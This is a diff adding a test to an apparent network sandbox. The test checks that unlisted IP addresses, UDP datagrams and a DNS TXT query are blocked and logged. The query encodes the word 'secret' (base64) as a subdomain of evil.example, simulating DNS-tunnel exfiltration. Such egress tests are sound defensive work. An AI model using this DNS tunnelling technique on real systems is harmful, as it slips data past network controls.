@@ -68,3 +68,55 @@ test("programs that ignore proxy variables", { timeout: 120_000 }, async (contex
     here.map(({ name }) => ({ name, allowed: true, refused: true, recorded: [true, true] })),
   );
 });
+
+test("addresses that no rule names, datagrams and tunnels are refused at once, by name and program", async (context) => {
+  needs(context, "userns", "bubblewrap", "seccomp", "overlay", "helper", "python3");
+  const folder = realpathSync(tmp());
+  chmodSync(folder, 0o755);
+  const [caller] = callersIn(folder);
+  if (caller === undefined) throw new Error("nobody calls");
+  const cwd = caller.folder("work");
+  writeFileSync(join(cwd, "try.py"), TRIES);
+  // The control: outside, the same program reaches its own listeners.
+  const outside = caller.outside(["python3", "try.py", "outside"], { cwd });
+  expect(outside.stdout).toBe("tcp sent\nudp sent\n");
+  const ran = caller.ringfence(["run", "--quiet", "--", "python3", "try.py", "inside"], { cwd });
+  expect(ran.stdout).toBe("tcp ECONNREFUSED\nudp EPERM\ntcp6 ECONNREFUSED\ndot ECONNREFUSED\ntext 0\n");
+  const shown = caller.ringfence(["log", "show", "--json", "--type", "net.blocked"], { cwd }).stdout;
+  const { records } = JSON.parse(shown) as { readonly records: readonly NetRecord[] };
+  const blocked = records.map(({ actor, data }) => [
+    ...[data["host"], data["port"], data["reason"]],
+    /\/python3[.\d]*$/.test(actor?.exe ?? ""),
+  ]);
+  const expected = [
+    ["1.1.1.1", 443, "no-rule", true],
+    ["1.1.1.1", 443, "refused-udp", true],
+    ["2606:4700::1111", 443, "no-rule", true],
+    ["9.9.9.9", 853, "no-rule", true],
+    ["c2vjcmv0.evil.example", 53, "refused-dns-type-16", true],
+  ];
+  expect([...blocked].sort()).toEqual(expected.sort());
+});
+
+const TRIES = `
+import errno, socket, struct, sys, time
+def trial(label, act):
+  try: print(label, act() or "sent")
+  except OSError as error: print(label, errno.errorcode.get(error.errno))
+def stream(to): socket.create_connection(to, 3).close()
+def datagram(to): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", to) and None
+if sys.argv[1] == "outside":
+  server = socket.create_server(("127.0.0.1", 0))
+  trial("tcp", lambda: stream(server.getsockname()))
+  trial("udp", lambda: datagram(server.getsockname()))
+else:
+  trial("tcp", lambda: stream(("1.1.1.1", 443)))
+  trial("udp", lambda: datagram(("1.1.1.1", 443)))
+  trial("tcp6", lambda: stream(("2606:4700::1111", 443)))
+  trial("dot", lambda: stream(("9.9.9.9", 853)))
+  question = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\x08c2VjcmV0\\x04evil\\x07example\\0" + struct.pack(">2H", 16, 1)
+  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+  s.sendto(question, ("9.9.9.9", 53))
+  print("text", s.recv(512)[7])
+  time.sleep(0.5)
+`;
